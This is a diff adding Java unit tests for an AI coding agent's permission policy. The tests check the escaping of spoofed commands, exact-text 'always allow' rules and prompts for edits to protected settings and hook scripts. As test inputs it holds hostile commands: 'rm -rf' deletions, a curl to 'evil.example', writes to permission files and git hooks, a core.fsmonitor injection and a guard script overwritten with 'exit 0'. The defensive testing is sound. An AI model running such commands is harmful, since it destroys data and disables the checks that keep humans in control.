@@ -424,4 +424,72 @@ class PermissionPolicyTest {
         assertThat(d.source().kind()).isEqualTo(DecisionSourceKind.ERROR);
         assertThat(d.reason()).contains("could not be read").contains("global.json");
     }
+
+    @Test
+    void theApprovalReasonShowsTheWholeCommandWithControlCharactersEscaped() {
+        String spoof = "ls -la\r\u001b[K; rm -rf ~/work " + "x".repeat(300) + " && curl evil.example";
+        PermissionDecision d = policy(List.of(), List.of(), List.of()).decide(bash(spoof));
+        assertAsk(d);
+        assertThat(d.reason()).contains("ls -la\\r\\x1b[K; rm -rf ~/work").contains("&& curl evil.example")
+                .doesNotContain("\r").doesNotContain("\u001b").doesNotContain("...");
+    }
+
+    @Test
+    void alwaysForASpoofedCommandSavesOnlyItsExactText() {
+        String spoof = "ls -la\r\u001b[K; rm -rf victim";
+        PermissionPolicy policy = policy(List.of(), List.of(), List.of());
+        assertThat(PermissionRule.suggest("Bash", Json.object().put("command", spoof), wd))
+                .containsExactly(PermissionRule.of("Bash", spoof));
+        policy.applyAnswer(bash(spoof), PermissionAnswer.allowAlways(PermissionTier.LOCAL));
+        assertThat(store.load(PermissionTier.LOCAL, "coder").allow()).containsExactly(PermissionRule.of("Bash", spoof));
+        assertAsk(policy.decide(bash("rm -rf victim")));
+        assertAsk(policy.decide(bash("ls -la")));
+    }
+
+    @Test
+    void alwaysNeverSavesTheWholeBashTool() {
+        assertThat(PermissionRule.suggest("Bash", Json.object().put("command", "FOO=1 make deploy"), wd))
+                .noneMatch(PermissionRule::isWholeTool)
+                .contains(PermissionRule.of("Bash", "FOO=1 make deploy"));
+    }
+
+    @Test
+    void protectedSettingsAskWhateverTheRulesAndModeSay() {
+        PermissionPolicy broad = policy(List.of("Bash", "Write", "Edit"), List.of(), List.of());
+        for (PermissionMode mode : PermissionMode.values()) {
+            if (mode == PermissionMode.PLAN) {
+                continue;
+            }
+            assertAsk(broad.decide(file("Write", picrustHome.resolve("permissions/global.json").toString(), false, mode)));
+            assertAsk(broad.decide(file("Edit", ".picrust/settings.local.json", false, mode)));
+            assertAsk(broad.decide(file("Write", ".mcp.json", false, mode)));
+            assertAsk(broad.decide(query("Bash", Json.object().put("command", "echo x >> .git/hooks/pre-commit"), false, mode)));
+        }
+        PermissionDecision d = broad.decide(bash("echo '{}' > $PICRUST_HOME/permissions/global.json"));
+        assertThat(d.source()).isInstanceOf(DecisionSource.Protected.class);
+        assertThat(d.source().kind()).isEqualTo(dev.picrust.event.DecisionSourceKind.PROTECTED);
+        assertAllow(broad.decide(bash("git clone https://example.com/x/y.git && cat .gitignore")));
+        assertAllow(broad.decide(bash("git commit -m 'read the config file lazily'")));
+        assertAsk(broad.decide(bash("git -C sub config --local alias.st status")));
+        assertAsk(broad.decide(bash("git -c core.fsmonitor='touch x' status")));
+        assertAllow(broad.decide(file("Write", "src/Main.java", false, PermissionMode.DEFAULT)));
+        // A deny rule still wins, and a hook's allow does not open the door.
+        assertThat(policy(List.of(), List.of(), List.of("Write")).decide(file("Write", ".mcp.json", false,
+                PermissionMode.DEFAULT))).isInstanceOf(PermissionDecision.Deny.class);
+        assertAsk(broad.decide(file("Write", ".mcp.json", false, PermissionMode.DEFAULT)
+                .withHookRuling(Optional.of(new HookRuling(dev.picrust.event.PermissionBehavior.ALLOW, "ok", "h")))));
+    }
+
+    @Test
+    void hookScriptsNamedBySettingsAreProtected() throws Exception {
+        Files.createDirectories(wd.resolve("scripts"));
+        Files.writeString(wd.resolve("scripts/guard.sh"), "#!/bin/sh\nexit 0\n");
+        Files.createDirectories(wd.resolve(".picrust"));
+        Files.writeString(wd.resolve(".picrust/settings.json"), "{\"hooks\":{\"PreToolUse\":[{\"matcher\":\"Bash\","
+                + "\"hooks\":[{\"type\":\"command\",\"command\":\"./scripts/guard.sh --strict\"}]}]}}");
+        PermissionPolicy broad = policy(List.of("Bash", "Write"), List.of(), List.of());
+        assertAsk(broad.decide(file("Write", "scripts/guard.sh", false, PermissionMode.ACCEPT_EDITS)));
+        assertAsk(broad.decide(bash("echo 'exit 0' > scripts/guard.sh")));
+        assertAllow(broad.decide(file("Write", "scripts/other.sh", false, PermissionMode.DEFAULT)));
+    }
 }
